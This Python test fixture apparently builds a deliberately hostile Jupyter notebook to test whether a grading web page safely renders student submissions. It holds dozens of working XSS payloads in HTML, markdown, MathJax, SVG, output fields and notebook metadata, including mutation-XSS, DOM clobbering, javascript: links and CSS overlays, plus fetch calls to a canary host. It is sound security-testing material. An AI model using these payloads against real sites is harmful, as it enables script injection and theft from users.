"""A graded notebook that tries everything a page could fall for: for tests in a real browser.

Each attempt, should it succeed, sets `window.__owned` or asks a listening canary for something.
"""

from __future__ import annotations

import base64
from typing import Any

from nbformat import NotebookNode, from_dict

OWN = "window.__owned = (window.__owned || 0) + 1"
OVERLAY = "position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999;background:red"


def snippets(canary: str) -> list[str]:
    """HTML that a submission may try, a way each. canary: an address that must not be asked."""
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{OWN}"><script>{OWN}</script><image href="{canary}/svg"/></svg>'
    framed = f"&lt;script&gt;parent.__owned=1;fetch('{canary}/srcdoc')&lt;/script&gt;"
    data = base64.b64encode(f"<script>parent.__owned=1;fetch('{canary}/data')</script>".encode()).decode()
    return [
        f"<script>{OWN};fetch('{canary}/script')</script>",
        f'<script src="{canary}/src.js"></script>',
        f"<ScRiPt/x>{OWN}</sCrIpT>",
        f'<img src=x onerror="{OWN}">',
        f'<img src="{canary}/img"><img srcset="{canary}/srcset"><picture><source srcset="{canary}/source"><img></picture>',
        svg,
        f'<svg><animate onbegin="{OWN}" attributeName=x dur=1s></svg>',
        f'<svg><a xlink:href="javascript:{OWN}"><text y=20>press</text></a><use href="{canary}/use"/></svg>',
        f'<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=x onerror={OWN}&gt;">',
        f'<math href="javascript:{OWN}">press</math>',
        f'<a class="bait" href="javascript:{OWN}">press</a> <a class="bait" href="java&#9;script:{OWN}">press</a>',
        f'<a class="bait" href="data:text/html;base64,{data}">press</a>',
        f'<iframe srcdoc="{framed}"></iframe><iframe src="{canary}/iframe"></iframe>',
        f'<iframe src="data:text/html;base64,{data}"></iframe><iframe src="javascript:parent.{OWN[7:]}"></iframe>',
        f'<object data="{canary}/object"></object><embed src="{canary}/embed"><applet code="{canary}/applet"></applet>',
        f'<video src="{canary}/video" poster="{canary}/poster" onerror="{OWN}"></video><audio src="{canary}/audio"></audio>',
        f'<meta http-equiv="refresh" content="0;url={canary}/refresh"><base href="{canary}/base/">',
        f'<link rel="stylesheet" href="{canary}/link.css"><link rel="prefetch" href="{canary}/prefetch">',
        f'<style>@import "{canary}/import.css"; body {{ display: none !important; background: url({canary}/css) }}</style>',
        f'<div style="background-image:url({canary}/style);{OVERLAY}">overlay</div>',
        f'<div style="{OVERLAY}" class="navbar navbar-fixed-top modal in" id="statusmessage">overlay</div>',
        '<div style="margin:-3000px 0 0 -3000px;width:6000px;height:6000px;background:red">overlay</div>',
        f'<form action="{canary}/form"><input name="x" autofocus onfocus="{OWN}"><button>press</button></form>',
        f'<details open ontoggle="{OWN}"><summary>more</summary>text</details>',
        f'<div tabindex=0 autofocus onfocus="{OWN}" onpointerrawupdate="{OWN}" onanimationstart="{OWN}">x</div>',
        f'<noscript><p title="</noscript><img src=x onerror={OWN}>">',
        f'<textarea></textarea><title></title><xmp></xmp><template><img src=x onerror="{OWN}"></template>',
        f"</pre></div></body></html><script>{OWN}</script>",
        f"--><script>{OWN}</script><!-- <![CDATA[ ]]><script>{OWN}</script>",
        f'<img name="base_url"><a id="formgrade"></a><a id="submission_id" href="{canary}/clobber"></a>',
        f'<img alt="`" src="x` onerror={OWN} `">',
        f'<p title="\n\n$x\\text{{ onerror={OWN} }}$ ` onload={OWN} `\n\n">broken quotes</p>',
    ]


def markdown(canary: str) -> list[str]:
    """Markdown that a submission may try, beyond its HTML."""
    return [
        f"[press](javascript:{OWN}) ![x](javascript:{OWN}) ![x]({canary}/md.png) <javascript:{OWN}>",
        rf"$\href{{javascript:{OWN}}}{{press}}$ $\style{{{OVERLAY}}}{{x}}$ $\class{{modal}}{{x}}$",
        rf"$$\text{{<script>{OWN}</script>}} \unicode{{<img src=x onerror={OWN}>}}$$",
        f'```html"><script>{OWN}</script>\n</code></pre><script>{OWN}</script>\n```',
        f'```mermaid\nclick A href "javascript:{OWN}"\n<script>{OWN}</script>\n```',
        f'| a |\n|---|\n| <img src=x onerror="{OWN}"> |\n\n# <script>{OWN}</script> heading',
        f'[a]: javascript:{OWN} "x" onclick="{OWN}\n\n[a] ![p](attachment:evil) ![q](attachment:none)',
    ]


def outputs(canary: str) -> list[dict[str, Any]]:
    """Outputs of every kind, damaged ones included."""
    html = snippets(canary)
    display = lambda data, **more: {"output_type": "display_data", "data": data, "metadata": {}, **more}
    state = {"model_id": f"</script><script>{OWN}</script>", "version_major": 2, "version_minor": 0}
    return [
        *(display({"text/html": one, "text/plain": "plain words"}) for one in html),
        *(display({"text/markdown": one}) for one in [*markdown(canary), *html[:4]]),
        display({"image/svg+xml": html[5]}),
        display({"image/svg+xml": [html[5], '"><script>', OWN, "</script>"]}),
        display({"application/javascript": f"{OWN};fetch('{canary}/js')", "text/plain": "a script"}),
        display({"text/javascript": OWN}),
        display({"text/latex": rf"$\href{{javascript:{OWN}}}{{x}}$<script>{OWN}</script>"}),
        display({"image/png": f'AAAA"><script>{OWN}</script>', "text/plain": "no picture"}),
        display(
            {"image/png": "AAAA"},
            metadata={"image/png": {"width": f'1 onerror="{OWN}"', "alt": f'"><script>{OWN}</script>'}},
        ),
        display({"image/jpeg": "AAAA", "text/plain": f'" onerror="{OWN}'}),
        display({"application/pdf": "AAAA", f"text/<script>{OWN}</script>": "x"}),
        display({"text/html": html[0]}, metadata={"text/html": {"isolated": True}}),
        display({"application/vnd.jupyter.widget-view+json": state, "text/plain": "a slider"}),
        display({"application/json": {f"</script><script>{OWN}</script>": html[3]}}),
        display({"text/vnd.mermaid": f'graph TD; A["<img src=x onerror={OWN}>"]'}),
        {
            "output_type": "stream",
            "name": "stdout",
            "text": f"{html[3]} \x1b[31m<script>{OWN}</script>\x1b[0m \x1b]8;;javascript:{OWN}\x07x\x1b]8;;\x07",
        },
        {"output_type": "stream", "name": f"<script>{OWN}</script>", "text": [html[0], html[3]]},
        {
            "output_type": "error",
            "ename": html[3],
            "evalue": html[0],
            "traceback": [f"\x1b[0;31m{html[3]}\x1b[0m", html[0]],
        },
    ]


def damaged(evil: str) -> list[dict[str, Any]]:
    """Cells that nbformat does not allow: nbconvert refuses such a notebook, our own page does not."""
    outputs = [
        {"output_type": "display_data", "data": {"text/html": {"not": "text"}, "text/plain": 7}},
        {"output_type": "display_data", "data": evil},
        {"output_type": "error", "ename": 7, "traceback": evil},
        {"output_type": evil},
    ]
    marks = {"grade_id": evil, "grade": True, "solution": evil, "points": evil}
    return [
        {"cell_type": "code", "id": evil, "source": [evil, 7], "execution_count": evil, "outputs": outputs}
        | {"metadata": {"nbgrader": marks, "tags": evil}},
        {"cell_type": evil, "id": 7, "source": evil, "metadata": {"nbgrader": evil, "tags": 7}},
    ]


def notebook(canary: str, lesson: NotebookNode) -> NotebookNode:
    """A graded lesson with all of that in it, its marks and metadata included."""
    evil = f'"><script>{OWN}</script><img src=x onerror="{OWN}">'
    made: dict[str, Any] = {**lesson, "cells": list(lesson.cells)}
    made["metadata"] = {
        **lesson.metadata,
        "title": evil,
        "kernelspec": {"name": evil, "display_name": evil, "language": evil},
        "language_info": {"name": evil, "pygments_lexer": evil, "file_extension": evil},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"x": f"</script><script>{OWN}</script>"}},
        "heinit": {"repairs": [evil, {"no": "text"}], "wall": "namespaces"},
    }
    marks = {
        "grade": True,
        "solution": True,
        "locked": False,
        "schema_version": 3,
        "points": evil,
        "task": False,
    }
    attached = {"evil": {"image/svg+xml": evil, evil: "AAAA"}}
    for i, one in enumerate([*snippets(canary), *markdown(canary)]):
        cell = {
            "cell_type": "markdown",
            "id": f"m{i}",
            "source": one,
            "metadata": {},
            "attachments": attached,
        }
        made["cells"].append(cell)
    made["cells"].append(
        {
            "cell_type": "code",
            "id": "evil",
            "source": f"%%html\n{evil}\n# honest comment",
            "metadata": {
                "tags": [evil],
                "magics_language": evil,
                "nbgrader": {**marks, "grade_id": evil},
            },
            "execution_count": 1,
            "outputs": outputs(canary),
        }
    )
    made["cells"].append(
        {"cell_type": "raw", "id": "raw", "source": evil, "metadata": {"raw_mimetype": "text/html"}}
    )
    found: NotebookNode = from_dict(made)
    return found
